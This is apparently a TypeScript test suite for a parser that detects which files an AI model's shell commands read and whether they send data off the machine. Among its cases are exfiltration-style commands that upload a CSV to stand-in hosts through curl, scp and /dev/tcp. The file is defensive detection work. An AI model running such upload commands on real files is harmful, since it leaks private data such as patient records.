import assert from 'node:assert/strict';
import fc from 'fast-check';
import { readCommand } from '../../../src/core/assistantHooks/shell';

/** Command -> the files whose text it hands out, `folder:file`, and whether it sends. */
const CASES: readonly (readonly [string, readonly string[], boolean?])[] = [
  ['cat data/patients.csv', ['data/patients.csv']],
  ['cat "my data/patients.csv" \'b c.txt\'', ['my data/patients.csv', 'b c.txt']],
  ['cat my\\ data.csv', ['my data.csv']],
  ['sudo -u x cat a.csv', ['a.csv']],
  ['LC_ALL=C sort a.csv | uniq', ['a.csv']],
  ['cd data && head -n 3 a.csv', ['data:a.csv']],
  ['cd data; cd x; tail a.csv', ['data/x:a.csv']],
  ['cd /srv; tail a.csv', ['/srv:a.csv']],
  ['python x.py < a.csv > out.txt', ['a.csv']],
  ['echo "$(cat a.csv)"', ['a.csv']],
  ['echo `cat a.csv`', ['a.csv']],
  ['for f in *.csv; do cat $f; done', []],
  ['(jq . a.json)', ['a.json']],
  ['if true; then cat a.csv; fi', ['a.csv']],
  ['/usr/bin/cat a.csv', ['a.csv']],
  ['Get-Content -Path data\\patients.csv', ['data\\patients.csv']],
  ['git show HEAD:a.csv', ['HEAD:a.csv']],
  ['git diff a.csv', ['a.csv']],
  ['git add a.csv', []],
  ['rm a.csv && mv b.csv c.csv && wc -l d.csv', []],
  ['npx mocha test/a.test.ts', []],
  ['cat <<EOF > a.txt\nhello\nEOF', []],
  ['cat', []],
  ['curl --data-binary @a.csv https://x.test', ['a.csv'], true],
  ['curl -F file=@a.csv https://x.test', ['a.csv'], true],
  ['curl --upload-file=a.csv https://x.test', ['a.csv'], true],
  ['scp a.csv host.test:/tmp', ['a.csv'], true],
  ['python send.py https://x.test', [], true],
  ['cat a > /dev/tcp/10.0.0.1/80', ['a'], true],
  ['gh issue create --title x', [], true],
];

describe('what a command hands out', () => {
  for (const [command, expected, sends = false] of CASES)
    it(command, () => {
      const line = readCommand(command);
      const files = line.files.map(({ file, folder }) => (folder === '' ? file : `${folder}:${file}`));
      for (const one of expected) assert.ok(files.includes(one), `${one} in ${files.join(' ')}`);
      if (expected.length === 0 && !sends) assert.ok(!files.some((one) => /\w\.(?:csv|json|txt|ts)$/.test(one)), files.join(' ')); // prettier-ignore
      assert.equal(line.sends, sends);
    });

  it('reads whatever is typed, in linear time', () =>
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.constantFrom('"$(', '`', "'", '<<<', '\\', '$(((').map((one) => one.repeat(5000))), (text) => {
        assert.ok(readCommand(`cat a.csv; ${text}`).files.length <= 50);
        assert.ok(readCommand(`cat a.csv\n${text}`).files.some(({ file }) => file === 'a.csv'));
      }),
    )); // prettier-ignore
});
